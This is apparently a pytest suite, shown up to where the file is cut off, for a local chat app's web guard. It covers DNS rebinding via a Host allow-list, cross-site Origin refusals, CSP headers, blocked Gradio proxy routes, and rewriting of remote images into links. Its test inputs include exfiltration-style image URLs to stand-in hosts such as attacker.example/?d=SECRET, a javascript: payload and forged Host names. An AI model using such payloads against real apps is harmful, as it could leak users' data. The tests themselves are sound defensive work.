"""The web face's defences, on a real server over real HTTP and in Debian's headless Chromium:
the Host allow-list (DNS rebinding), the Content-Security-Policy and frame headers, remote images
shown as links and never fetched, and the token a non-loopback bind needs."""

from __future__ import annotations

import asyncio
import base64
import http.client
import json
import os
import re
import secrets
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote, urlparse

import pytest
from conftest import CHROMIUM, CHROMIUM_ARGS, free_port, run_cli
from playwright.sync_api import Error as PlaywrightError

from app.base.config import Settings, save_settings
from app.base.errors import UserError
from app.faces.web_guard import (
    CSP,
    WebGuard,
    allowed_hosts,
    allowed_origins,
    fetches_elsewhere,
    is_local_url,
    read_token,
    remote_images_as_links,
)

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()
FORGED = ["evil.example", "evil.example:{port}", "localhost.evil.example:{port}", "127.0.0.1.nip.io:{port}",
          "localhost:{other}"]
SERVED = ["127.0.0.1:{port}", "localhost:{port}", "127.0.0.1", "localhost", "[::1]:{port}"]
WEBSOCKET = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
             "Sec-WebSocket-Key": base64.b64encode(b"nemo-chat-test!!").decode()}


# -- helpers ------------------------------------------------------------------------------------------
def ask(url: str, path: str = "/", method: str = "GET", host: str | None = None, body: bytes | None = None,
        headers: dict | None = None) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One real HTTP request to the server of `url`, with this exact Host header if given."""
    parts = urlparse(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        connection.request(method, path, body=body, headers={**({"Host": host} if host else {}), **(headers or {})})
        response = connection.getresponse()
        return response.status, response.headers, response.read()
    finally:
        connection.close()


def upload_body(name: str, data: bytes) -> tuple[bytes, dict]:
    boundary = "nemo-" + secrets.token_hex(8)
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            f"Content-Type: text/plain\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def routes(demo) -> list[tuple[str, str, bytes | None, dict]]:
    """(method, path, body, headers): the page, its config, the API info, a queue join, an upload, a
    websocket upgrade."""
    fn_index = next(i for i, fn in demo.fns.items() if fn.name == "new_conversation")
    join = json.dumps({"data": [], "event_data": None, "fn_index": fn_index, "trigger_id": None,
                       "session_hash": "security-test"}).encode()
    upload, upload_headers = upload_body("note.txt", b"hello")
    return [("GET", "/", None, {}), ("GET", "/gradio_api/info", None, {}), ("GET", "/config", None, {}),
            ("POST", "/gradio_api/queue/join", join, {"Content-Type": "application/json"}),
            ("POST", "/gradio_api/upload", upload, upload_headers),
            ("GET", "/gradio_api/queue/join", None, WEBSOCKET)]


def wait_until(predicate, timeout: float = 60, what: str = "") -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def cors_headers(headers: http.client.HTTPMessage) -> list[str]:
    return [name for name in headers if name.lower().startswith("access-control-")]


def csp_directives(header: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}


@pytest.fixture()
def remote():
    """A stand-in for another server (127.0.0.2, its own port) that records every path asked of it."""
    seen: list[str] = []

    class Pixel(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PNG)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(PNG)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.2", 0), Pixel)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.seen = seen
    server.base = f"http://127.0.0.2:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


def prove_reachable(page, remote) -> None:
    """The remote server is reachable from this Chromium: a page without our CSP loads its image."""
    other = page.context.browser.new_page()
    other.set_content(f'<img src="{remote.base}/control.png">')
    wait_until(lambda: "/control.png" in remote.seen, what="the control image")
    other.close()


# -- DNS rebinding: the Host allow-list ----------------------------------------------------------------
def test_forged_host_names_are_refused_on_every_route(served):
    demo, url = served
    port = urlparse(url).port
    for method, path, body, headers in routes(demo):
        for forged in FORGED:
            host = forged.format(port=port, other=port + 1)
            status, response_headers, text = ask(url, path, method, host, body, headers)
            assert status == 421, (method, path, host, status)
            assert text.decode().count("\n") == 1 and "host name" in text.decode(), text
            assert response_headers["Content-Type"].startswith("text/plain")
    # the guard runs outside Gradio's own CORS layer: a preflight is refused like any request
    origin = {"Origin": f"http://evil.example:{port}", "Access-Control-Request-Method": "POST"}
    status, response_headers, _ = ask(url, "/gradio_api/info", "OPTIONS", f"evil.example:{port}", headers=origin)
    assert status == 421 and cors_headers(response_headers) == []
    assert ask(url, "/gradio_api/info", "OPTIONS", f"evil.example:{port}")[0] == 421


def test_the_served_names_are_answered(served):
    demo, url = served
    port = urlparse(url).port
    for method, path, body, headers in routes(demo)[:5]:
        for served_host in SERVED:
            status, _, text = ask(url, path, method, served_host.format(port=port), body, headers)
            assert status == 200, (method, path, served_host, status, text[:200])
    _, _, text = ask(url, "/gradio_api/info", host=f"localhost:{port}")
    assert "named_endpoints" in json.loads(text)


def test_a_rebound_name_gets_421_in_chromium(served, page, remote):
    """The attack itself: evil.example resolves to 127.0.0.1 (Chromium's resolver rules)."""
    _, url = served
    port = urlparse(url).port
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP pictures.example 127.0.0.2"
    browser = page.context.browser.browser_type.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
    try:
        rebound = browser.new_page()
        control = rebound.goto(f"http://pictures.example:{urlparse(remote.base).port}/rule.png")
        assert control.status == 200 and "/rule.png" in remote.seen, "the resolver rules work"
        response = rebound.goto(f"http://evil.example:{port}/")
        assert response.status == 421
        assert "does not answer to that host name" in rebound.locator("body").inner_text()
        info = rebound.evaluate("() => fetch('/gradio_api/info').then(r => r.status)")
        assert info == 421
    finally:
        browser.close()


# -- pages of other sites: the Origin check ------------------------------------------------------------
EVIL = "https://evil.example"
ALLOWED = "http://localhost:3000"


@pytest.fixture()
def served_with_api(home, monkeypatch):
    """The app with the OpenAI API at /v1 (`ui --api`), one other origin allowed."""
    from app.faces.api_server import api_app, api_service
    from app.ui import build_app, launch

    monkeypatch.setenv("NEMO_CHAT_ALLOWED_ORIGINS", ALLOWED)
    save_settings(Settings(model="smollm2", n_ctx=1024, max_tokens=8))
    demo, style = build_app()
    port = free_port()
    launch(demo, style, port=port, block=False, api=api_app(api_service(demo.nemo)))
    yield demo, f"http://127.0.0.1:{port}/"
    demo.close()


def test_ui_api_with_a_token_takes_it_as_x_api_key_on_v1_only(home):
    """`ui --api` behind the UI's token: Anthropic's clients send their key as `x-api-key`, and
    /v1 takes the token that way too; the page's routes still need Bearer or the login."""
    from app.faces.api_server import api_app, api_service
    from app.ui import build_app, launch

    save_settings(Settings(model="smollm2", n_ctx=1024, max_tokens=8))
    token = secrets.token_urlsafe(24)
    demo, style = build_app()
    port = free_port()
    launch(demo, style, port=port, block=False, token=token, api=api_app(api_service(demo.nemo)))
    url = f"http://127.0.0.1:{port}/"
    try:
        status, _, text = ask(url, "/v1/models", headers={"x-api-key": token})
        assert status == 200 and json.loads(text)["data"], text
        assert ask(url, "/v1/models", headers={"x-api-key": token[:-1]})[0] == 401
        assert ask(url, "/v1/models")[0] == 401
        assert ask(url, "/config", headers={"x-api-key": token})[0] == 401, "the page's routes take no x-api-key"
        assert ask(url, "/config", headers={"Authorization": f"Bearer {token}"})[0] == 200
    finally:
        demo.close()


def cross_site_requests(demo, origin: str) -> list[tuple[str, str, bytes | None, dict]]:
    """What a page of another site may send: a read of /config, a preflight of a queue join, a
    multipart upload, a text/plain POST to /v1 (the two last are "simple": no preflight first),
    a websocket upgrade."""
    upload, upload_headers = upload_body("cross-site.txt", b"hello")
    chat = json.dumps({"model": "smollm2", "messages": [{"role": "user", "content": "hi"}]}).encode()
    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    return [("GET", "/config", None, {"Origin": origin}),
            ("OPTIONS", "/gradio_api/queue/join", None, {"Origin": origin, **preflight}),
            ("POST", "/gradio_api/upload", upload, {"Origin": origin, **upload_headers}),
            ("POST", "/v1/chat/completions", chat, {"Origin": origin, "Content-Type": "text/plain"}),
            ("GET", "/gradio_api/queue/join", None, {"Origin": origin, **WEBSOCKET})]


def test_pages_of_other_sites_get_403_without_cors_headers(served_with_api):
    """Through [::1] (which Gradio's own CORS layer answers for any origin) and localhost."""
    demo, url = served_with_api
    port = urlparse(url).port
    for host in (f"[::1]:{port}", f"localhost:{port}"):
        for origin in (EVIL, "null", f"http://localhost:{port + 1}", f"http://{host}.evil.example"):
            for method, path, body, headers in cross_site_requests(demo, origin):
                status, response_headers, text = ask(url, path, method, host, body, headers)
                assert status == 403, (host, origin, method, path, status, text[:200])
                assert cors_headers(response_headers) == [], (path, response_headers)
                assert text.decode().count("\n") == 1 and "other sites" in text.decode()
                assert response_headers["Content-Security-Policy"] == CSP
    status, _, _ = ask(url, "/config", host=f"[::1]:{port}", headers={"Sec-Fetch-Site": "cross-site"})
    assert status == 403, "a browser's cross-site request without an Origin"
    followed = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
    assert ask(url, "/", host=f"[::1]:{port}", headers=followed)[0] == 200, "a link followed to the page"
    for path, mode in (("/", "no-cors"), ("/config", "navigate")):  # a <script src>, a link to data
        status, _, _ = ask(url, path, host=f"[::1]:{port}", headers={**followed, "Sec-Fetch-Mode": mode})
        assert status == 403, (path, mode)
    from app.faces.temp_files import private_tmp

    assert not list(private_tmp().rglob("cross-site.txt")), "no upload was kept"


def test_this_page_clients_without_an_origin_and_allowed_origins_are_served(served_with_api):
    demo, url = served_with_api
    port = urlparse(url).port
    for host in (f"[::1]:{port}", f"127.0.0.1:{port}"):
        for headers in ({"Origin": f"http://{host}", "Sec-Fetch-Site": "same-origin"}, {}):
            upload, upload_headers = upload_body("note.txt", b"hello")
            assert ask(url, "/config", host=host, headers=headers)[0] == 200
            status, response_headers, text = ask(url, "/gradio_api/upload", "POST", host, upload,
                                                 {**headers, **upload_headers})
            assert status == 200 and json.loads(text)[0].endswith("note.txt")
            assert cors_headers(response_headers) == [], "same origin: nothing to allow"
            status, _, text = ask(url, "/v1/models", host=host, headers=headers)
            assert status == 200 and json.loads(text)["data"]
    chat = json.dumps({"model": "smollm2", "max_tokens": 2, "messages": [{"role": "user", "content": "hi"}]})
    status, _, text = ask(url, "/v1/chat/completions", "POST", body=chat.encode(), headers={"Content-Type": "text/plain"})
    assert status == 415 and "application/json" in json.loads(text)["error"]["message"]
    status, _, text = ask(url, "/v1/chat/completions", "POST", body=chat.encode(),
                          headers={"Content-Type": "application/json; charset=utf-8"})
    assert status == 200 and json.loads(text)["choices"][0]["message"]["content"] is not None
    # a site the user allowed: its preflight is answered, its requests carry its own origin back
    preflight = {"Origin": ALLOWED, "Access-Control-Request-Method": "POST",
                 "Access-Control-Request-Headers": "authorization, content-type"}
    status, response_headers, _ = ask(url, "/v1/chat/completions", "OPTIONS", headers=preflight)
    assert status == 204 and response_headers["Access-Control-Allow-Origin"] == ALLOWED
    assert response_headers["Access-Control-Allow-Headers"] == "authorization, content-type"
    assert "Access-Control-Allow-Credentials" not in response_headers
    status, response_headers, _ = ask(url, "/v1/models", headers={"Origin": ALLOWED})
    assert status == 200 and response_headers["Access-Control-Allow-Origin"] == ALLOWED


def test_the_api_server_refuses_pages_of_other_sites(home):
    """`nemo-chat serve`: the same guard in front of the API alone."""
    from app.faces.api_server import ApiServer
    from app.services.root import Services

    with Services(Settings(model="smollm2", n_ctx=1024)) as services:
        server = ApiServer(services, port=free_port(), allow_origins=[ALLOWED]).start()
        try:
            url, port = server.url, urlparse(server.url).port
            chat = json.dumps({"model": "smollm2", "messages": [{"role": "user", "content": "hi"}]}).encode()
            for host in (f"[::1]:{port}", f"127.0.0.1:{port}"):
                for method, body, headers in [("POST", chat, {"Content-Type": "text/plain"}),
                                              ("POST", chat, {"Content-Type": "application/json"}),
                                              ("OPTIONS", None, {"Access-Control-Request-Method": "POST"}),
                                              ("GET", None, {})]:
                    path = "/v1/models" if method == "GET" else "/v1/chat/completions"
                    status, response_headers, _ = ask(url, path, method, host, body, {"Origin": EVIL, **headers})
                    assert status == 403 and cors_headers(response_headers) == [], (host, method, status)
            assert not services.engine.loaded, "no request reached the engine"
            status, _, text = ask(url, "/v1/chat/completions", "POST", body=chat, headers={"Content-Type": "text/plain"})
            assert status == 415 and json.loads(text)["error"]["type"] == "invalid_request_error"
            status, response_headers, _ = ask(url, "/v1/models", headers={"Origin": ALLOWED})
            assert status == 200 and response_headers["Access-Control-Allow-Origin"] == ALLOWED
        finally:
            server.stop()


def test_allowed_origins_are_written_as_origins(home, monkeypatch):
    monkeypatch.setenv("NEMO_CHAT_ALLOWED_ORIGINS", "https://Chat.Example:443/, ")
    assert allowed_origins(["http://localhost:3000", "http://[::1]:80"]) == {
        "https://chat.example", "http://localhost:3000", "http://[::1]"}
    for bad in ("localhost:3000", "ftp://a.example", "http://a.example/path", "*"):
        with pytest.raises(UserError, match="scheme://host"):
            allowed_origins([bad])
    result = run_cli("serve", "--allow-origin", "localhost:3000", "--port", str(free_port()), home=home, timeout=120)
    assert result.returncode == 2 and result.stderr.strip().count("\n") == 0, result.stderr
    assert "localhost:3000" in result.stderr and "Traceback" not in result.stderr


def test_gradio_routes_refuse_json_sent_as_text(served):
    """FastAPI's strict Content-Type check (>= 0.132, pinned in pyproject.toml) is what refuses a
    queue join a page could send cross-site as text/plain; pages are refused earlier by Origin."""
    import tomllib
    from importlib.metadata import version

    from packaging.requirements import Requirement

    demo, url = served
    join = routes(demo)[3][2]
    status, _, _ = ask(url, "/gradio_api/queue/join", "POST", body=join, headers={"Content-Type": "text/plain"})
    assert status == 422
    assert ask(url, "/gradio_api/queue/join", "POST", body=join, headers={"Content-Type": "application/json"})[0] == 200
    with open(Path(__file__).resolve().parent.parent / "pyproject.toml", "rb") as handle:
        floors = {Requirement(r).name: Requirement(r).specifier for r in tomllib.load(handle)["project"]["dependencies"]}
    assert floors["fastapi"].contains("0.132.0") and not floors["fastapi"].contains("0.131.9")
    assert "starlette" in floors
    for name in ("fastapi", "starlette"):
        assert floors[name].contains(version(name)), (name, version(name))


# -- Gradio's routes that fetch other servers ----------------------------------------------------------
def test_the_routes_that_would_fetch_another_server_are_refused(served, remote):
    _, url = served
    target = f"{remote.base}/leak.png?d=secret"
    once = quote(target, safe="")
    for path in (f"/gradio_api/file={target}", f"/gradio_api/file={once}", f"/gradio_api/file={quote(once, safe='')}",
                 f"/gradio_api/file/{target}", f"/gradio_api/fil%65={target}", "/gradio_api/proxy=https://a.hf.space/x",
                 f"/gradio_api/file=%20{target}"):
        status, _, text = ask(url, path)
        assert status == 403 and "fetches nothing" in text.decode(), (path, status, text[:200])
    assert remote.seen == []
    upload, upload_headers = upload_body("kept.txt", b"hello")
    status, _, text = ask(url, "/gradio_api/upload", "POST", body=upload, headers=upload_headers)
    status, _, text = ask(url, "/gradio_api/file=" + quote(json.loads(text)[0]))
    assert status == 200 and text == b"hello", "a file of the app is still served"


@pytest.mark.parametrize("path", [
    "/gradio_api/file=https://a.example/x", "/gradio_api/file=http%3A%2F%2Fa.example", "/gradio_api/file=HTTPS:x",
    "/gradio_api/file=http%253A%252F%252Fa.example", "/gradio_api/file=//a.example/x", "/gradio_api/file/ftp://a",
    "/gradio_api/proxy=x", "/gradio_api\\file=https://a.example", "/gradio_api/file=ok/file=https://a.example",
    "/gradio_api/file=http%25252525253A%2525252F"])
def test_paths_that_fetch_elsewhere(path):
    assert fetches_elsewhere(path)


@pytest.mark.parametrize("path", ["/gradio_api/file=/tmp/nemo/tmp/abc/note.txt", "/gradio_api/file=C:/tmp/x.png",
                                  "/", "/gradio_api/info", "/profile=https://a.example", "/v1/models"])
def test_paths_of_the_app(path):
    assert not fetches_elsewhere(path)


def test_websocket_handshakes_with_a_forged_host_are_refused():
    """The ASGI websocket branch (this venv's uvicorn has no websocket library, so a real upgrade is
    an HTTP request: the route test above covers it)."""
    reached = []

    async def app(scope, receive, send):
        reached.append(scope["type"])

    guard = WebGuard(app, allowed_hosts("127.0.0.1", 7860), 7860)

    def handshake(host: bytes, extensions: dict) -> list[dict]:
        sent = []

        async def send(message):
            sent.append(message)

        scope = {"type": "websocket", "headers": [(b"host", host)], "extensions": extensions}
        asyncio.run(guard(scope, None, send))
        return sent

    refused = handshake(b"evil.example:7860", {"websocket.http.response": {}})
    assert refused[0]["type"] == "websocket.http.response.start" and refused[0]["status"] == 421
    assert handshake(b"evil.example", {}) == [{"type": "websocket.close", "code": 1008}]
    assert reached == []
    assert handshake(b"127.0.0.1:7860", {}) == [] and reached == ["websocket"]


def test_only_gradios_own_startup_call_from_this_machine_skips_the_token():
    """launch() asks /gradio_api/startup-events without credentials; nothing else may."""
    reached = []

    async def app(scope, receive, send):
        reached.append(scope["path"])

    guard = WebGuard(app, allowed_hosts("0.0.0.0", 7860), 7860, any_ip=True, token="t" * 20)

    def status(path: str, client: str, method: str = "GET") -> int | None:
        sent = []

        async def receive():
            return {"type": "http.request", "body": b"", "more_body": False}

        async def send(message):
            sent.append(message)

        scope = {"type": "http", "method": method, "path": path, "client": (client, 5000),
                 "headers": [(b"host", b"localhost:7860")]}
        asyncio.run(guard(scope, receive, send))
        return sent[0]["status"] if sent else None

    assert status("/gradio_api/startup-events", "127.0.0.1") is None and reached == ["/gradio_api/startup-events"]
    assert status("/gradio_api/startup-events", "192.0.2.8") == 401
    assert status("/gradio_api/startup-events", "127.0.0.1", "POST") == 401
    assert status("/gradio_api/info", "127.0.0.1") == 401
    assert reached == ["/gradio_api/startup-events"]


def test_allowed_hosts_for_each_kind_of_bind(monkeypatch):
    monkeypatch.delenv("NEMO_CHAT_ALLOWED_HOSTS", raising=False)
    assert allowed_hosts("127.0.0.1", 7860) == {"localhost", "localhost:7860", "127.0.0.1", "127.0.0.1:7860",
                                                "[::1]", "[::1]:7860"}
    lan = allowed_hosts("192.168.1.20", 8000, ["Chat.Home.Arpa", "tunnel.example:9000"])
    assert lan == {"192.168.1.20", "192.168.1.20:8000", "chat.home.arpa", "chat.home.arpa:8000",
                   "tunnel.example:9000"}
    monkeypatch.setenv("NEMO_CHAT_ALLOWED_HOSTS", " other.example , ")
    assert {"other.example", "other.example:7860"} <= allowed_hosts("::1", 7860)
    assert "[::1]:7860" in allowed_hosts("::1", 7860)
    guard = WebGuard(None, allowed_hosts("0.0.0.0", 7860), 7860, any_ip=True)
    assert guard.host_ok("10.0.0.7:7860") and guard.host_ok("[fe80::1]") and guard.host_ok("localhost:7860")
    assert not guard.host_ok("10.0.0.7:7861") and not guard.host_ok("10.0.0.7.evil.example")


def test_uploads_over_the_size_limit_are_refused(home):
    from app.ui import build_app, launch

    demo, style = build_app(max_file_mb=1)
    port = free_port()
    launch(demo, style, port=port, block=False, max_file_mb=1)
    try:
        url = f"http://127.0.0.1:{port}/"
        big, headers = upload_body("big.txt", b"x" * (2**20 + 4096))
        status, _, text = ask(url, "/gradio_api/upload", "POST", body=big, headers=headers)
        assert status == 413, (status, text)
        small, headers = upload_body("small.txt", b"x" * 1000)
        status, _, text = ask(url, "/gradio_api/upload", "POST", body=small, headers=headers)
        assert status == 200 and json.loads(text)[0].endswith("small.txt")
    finally:
        demo.close()


# -- Content-Security-Policy and frame headers -----------------------------------------------------------
def test_security_headers_on_the_page_the_api_and_refusals(served):
    _, url = served
    port = urlparse(url).port
    upload, upload_headers = upload_body("note.txt", b"hello")
    responses = [ask(url, "/"), ask(url, "/gradio_api/info"), ask(url, "/config"), ask(url, "/theme.css"),
                 ask(url, "/gradio_api/upload", "POST", body=upload, headers=upload_headers),
                 ask(url, "/no-such-page"), ask(url, "/", host="evil.example")]
    asset = re.search(r"/assets/[\w.-]+\.js", responses[0][2].decode())
    assert asset, "the page names its script"
    responses.append(ask(url, asset[0]))
    for status, headers, _ in responses:
        assert headers["Content-Security-Policy"] == CSP, status
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"
    assert [r[0] for r in responses[:5]] == [200] * 5 and responses[6][0] == 421
    directives = csp_directives(CSP)
    assert directives["default-src"] == ["'self'"] and directives["connect-src"] == ["'self'"]
    assert directives["img-src"] == ["'self'", "data:", "blob:"] and directives["font-src"] == ["'self'", "data:"]
    assert directives["object-src"] == ["'none'"] and directives["frame-ancestors"] == ["'none'"]
    assert directives["base-uri"] == ["'self'"] and directives["form-action"] == ["'self'"]
    assert not [source for sources in directives.values() for source in sources
                if source in ("*", "http:", "https:") or "." in source], "only this origin"
    assert ask(url, "/", host=f"127.0.0.1:{port}")[0] == 200


def test_the_app_works_under_its_csp(served, page):
    """A message is typed and sent, the reply streams, every tab opens: no CSP violation on the way."""
    _, url = served
    problems = []
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.add_init_script("document.addEventListener('securitypolicyviolation', e =>"
                         " console.error('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI))")
    response = page.goto(url)
    assert response.headers["content-security-policy"] == CSP
    page.locator("#message-box textarea").click()
    page.keyboard.type("Write a short poem about the sea.")
    page.keyboard.press("Enter")
    page.wait_for_function("() => { const b = document.querySelectorAll('#chatbot .message.bot');"
                           " return b.length && b[b.length-1].innerText.trim().length > 0"
                           " && document.querySelector('#reply-stats').innerText.includes('…'); }", timeout=120_000)
    page.wait_for_function("() => document.querySelector('#reply-stats').innerText.includes('tok/s')",
                           timeout=240_000)
    for tab in ("Documents", "Translate", "Settings", "Chat"):
        page.get_by_role("tab", name=tab).click()
    page.get_by_role("tab", name="Documents").click()
    page.locator("#doc-progress").wait_for(timeout=30_000)
    assert page.locator("#doc-progress .error-container").count() == 0, "gr.HTML renders (it needs eval)"
    blocked = [p for p in problems if "Content Security Policy" in p or "CSP violation" in p or "EvalError" in p]
    assert blocked == []


# -- remote images become links ------------------------------------------------------------------------
def test_remote_images_in_a_conversation_are_links_and_never_fetched(served, page, remote):
    demo, url = served
    history = demo.nemo.history
    cid = history.create_conversation("pictures")
    history.add_message(cid, "user", f"What is in ![my photo]({remote.base}/user.png)?")
    history.add_message(cid, "assistant", (
        f"Here: ![secret]({remote.base}/pixel.png?q=secret)\n\n"
        f'Raw HTML: <img src="{remote.base}/raw.png" alt="raw">\n\n'
        f"By reference: ![logo][l]\n\n"
        f"Inline data: ![dot]({DATA_PNG})\n\n"
        f"As code: `![code]({remote.base}/code.png)`\n\n"
        f"[l]: {remote.base}/ref.png\n"))
    prove_reachable(page, remote)
    page.goto(url)
    page.locator("#conversation-list label", has_text="pictures").click()
    link = page.locator("#chatbot a", has_text="secret")
    link.wait_for(timeout=30_000)
    page.locator("#chatbot code", has_text="![code](").wait_for(timeout=30_000)
    assert link.get_attribute("href") == f"{remote.base}/pixel.png?q=secret"
    hrefs = page.locator("#chatbot a").evaluate_all("links => links.map(a => a.href)")
    for name in ("user.png", "pixel.png?q=secret", "raw.png", "ref.png"):
        assert f"{remote.base}/{name}" in hrefs, (name, hrefs)
    sources = page.locator("#chatbot img").evaluate_all("images => images.map(i => i.src)")
    assert DATA_PNG in sources, "data: images still show"
    assert not [s for s in sources if s.startswith(remote.base)]
    page.wait_for_timeout(1_000)  # room for any image request the page might still make
    assert remote.seen == ["/control.png"], "the browser fetched nothing from the remote server"


def test_the_csp_stops_a_remote_image_the_rewrite_missed(served, page, remote):
    _, url = served
    prove_reachable(page, remote)
    page.goto(url)
    page.locator("#chatbot").wait_for(timeout=30_000)
    violation = page.evaluate("""(src) => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation',
            e => resolve(e.effectiveDirective + ' ' + e.blockedURI), {once: true});
        const img = document.createElement('img');
        img.onload = () => resolve('loaded');
        img.src = src; document.body.appendChild(img);
    })""", f"{remote.base}/injected.png")
    assert violation == f"img-src {remote.base}/injected.png"
    fetched = page.evaluate("(src) => fetch(src).then(() => 'loaded', () => 'refused')", f"{remote.base}/fetch")
    assert fetched == "refused"
    assert remote.seen == ["/control.png"]


def test_a_summary_with_a_remote_image_shows_a_link(served, page, remote, tmp_path):
    from app.documents.reading import read_document

    demo, url = served
    store = demo.nemo.documents
    source = tmp_path / "report.md"
    source.write_text("# Report\n\nSome words about the harbour and its boats.\n", encoding="utf-8")
    document_id, _ = store.add(read_document(source))
    store.save_summary(document_id, "smollm2", {}, f"The harbour. ![chart]({remote.base}/chart.png)", 1, 1)
    prove_reachable(page, remote)
    page.goto(url)
    page.get_by_role("tab", name="Documents").click()
    page.locator("#doc-choice input").click()
    page.get_by_role("option", name="report.md", exact=False).click()
    link = page.locator("#doc-summary a", has_text="chart")
    link.wait_for(timeout=30_000)
    assert link.get_attribute("href") == f"{remote.base}/chart.png"
    page.wait_for_timeout(1_000)
    assert remote.seen == ["/control.png"]


PROXIED = ["/gradio_api/file=https://attacker.example/?d=SECRET", "gradio_api/file=http://attacker.example/b.png",
           "/gradio_api/file=https%3A%2F%2Fattacker.example%2Fc.png"]


def test_images_through_the_apps_proxy_are_never_shown(served, page, tmp_path):
    """A reply and a summary carry the three ways to make Gradio fetch another server: Chromium
    shows no <img> pointing there and asks the app for none of them."""
    from app.documents.reading import read_document

    demo, url = served
    images = "\n\n".join(f"![leak {n}]({target})" for n, target in enumerate(PROXIED))
    history = demo.nemo.history
    cid = history.create_conversation("proxied pictures")
    history.add_message(cid, "user", "Show me.")
    history.add_message(cid, "assistant", f"Here they are.\n\n{images}\n\n![dot]({DATA_PNG})")
    store = demo.nemo.documents
    source = tmp_path / "notes.md"
    source.write_text("# Notes\n\nA few words about the harbour.\n", encoding="utf-8")
    document_id, _ = store.add(read_document(source))
    store.save_summary(document_id, "smollm2", {}, f"A summary.\n\n{images}", 1, 1)
    page.goto(url)
    page.locator("#conversation-list label", has_text="proxied pictures").click()
    page.locator("#chatbot", has_text="leak 2").wait_for(timeout=30_000)
    page.get_by_role("tab", name="Documents").click()
    page.locator("#doc-choice input").click()
    page.get_by_role("option", name="notes.md", exact=False).click()
    page.locator("#doc-summary", has_text="leak 2").wait_for(timeout=30_000)
    sources = page.locator("img").evaluate_all("images => images.map(i => decodeURIComponent(i.src))")
    assert DATA_PNG in sources, "the app's own images still show"
    assert not [s for s in sources if "file=http" in s.lower() or "attacker" in s], sources
    asked = [unquote(u) for u in page.requests_seen if "attacker" in unquote(u)]
    assert asked == [], asked
    assert "leak 0" in page.locator("#chatbot").inner_text() and "leak 1" in page.locator("#doc-summary").inner_text()


def test_every_markdown_of_the_page_is_rewritten(served):
    import gradio as gr

    from app.faces.safe_markdown import safe_markdown

    demo, _ = served
    markdowns = [block for block in demo.blocks.values() if isinstance(block, gr.Markdown)]
    assert len(markdowns) > 10
    for block in markdowns:
        assert block.postprocess(f"Look: ![x]({PROXIED[0]})") == "Look: 🖼 x", block.elem_id
    assert safe_markdown(f"![x]({PROXIED[2]})").value == "🖼 x", "the first value too"


def test_streamed_replies_are_rewritten_too(served):
    """ChatUI.follow shows the reply while it streams: its text passes the same rewrite."""
    from app.base.jobs import Job
    from app.services.chat import ReplyUpdate
    from app.ui import ChatUI

    demo, _ = served
    ui = ChatUI(demo.nemo)
    cid = demo.nemo.history.create_conversation("streaming")

    def work(progress, cancel):
        yield ReplyUpdate(cid, None, "Look: ![x](https://evil.example/?q=secret)")

    shown = [messages for messages, *_ in ui.follow(Job(work).start(), cid)]
    assert shown and shown[-1][-1]["content"] == "Look: [🖼 x](https://evil.example/?q=secret)"


@pytest.mark.parametrize("text, expected", [
    ("![x](https://evil.example/?q=secret)", "[🖼 x](https://evil.example/?q=secret)"),
    ('a ![cat](http://a.example/c.png "Cat") b', 'a [🖼 cat](http://a.example/c.png "Cat") b'),
    ("![p](//evil.example/p.png)", "[🖼 p](//evil.example/p.png)"),
    ("![e](&#104;ttp://evil.example/e.png)", "[🖼 e](&#104;ttp://evil.example/e.png)"),
    ("![r][ref]\n\n[ref]: https://evil.example/r.png", "[🖼 r][ref]\n\n[ref]: https://evil.example/r.png"),
    ('<img src="https://evil.example/i.png" alt="pic">', "[🖼 pic](<https://evil.example/i.png>)"),
    ('<IMG SRC=https://evil.example/i.png>', "[🖼 image](<https://evil.example/i.png>)"),
    ('<img src="/ok.png" srcset="https://evil.example/2x.png 2x">', "[🖼 image](<https://evil.example/2x.png>)"),
    ('<video src="https://evil.example/v.mp4"></video>', '&lt;video src="https://evil.example/v.mp4"></video>'),
    ("![x](javascript:alert(1))", "🖼 x"),
    ("![a](/gradio_api/file=https://evil.example/?d=secret)", "🖼 a"),  # Gradio's server-side proxy
    ("![b](gradio_api/file=http://evil.example/b.png)", "🖼 b"),
    ("![c](/gradio_api/file=https%3A%2F%2Fevil.example%2Fc.png)", "🖼 c"),
    ('<img src="/gradio_api/file=https://evil.example/d.png">', "🖼 image"),
])
def test_remote_images_become_links(text, expected):
    assert remote_images_as_links(text) == expected


@pytest.mark.parametrize("text", [
    f"![dot]({DATA_PNG})",
    "![local](/gradio_api/file=picture.png) and ![relative](picture.png)",
    '<img src="data:image/png;base64,AAAA" alt="x">',
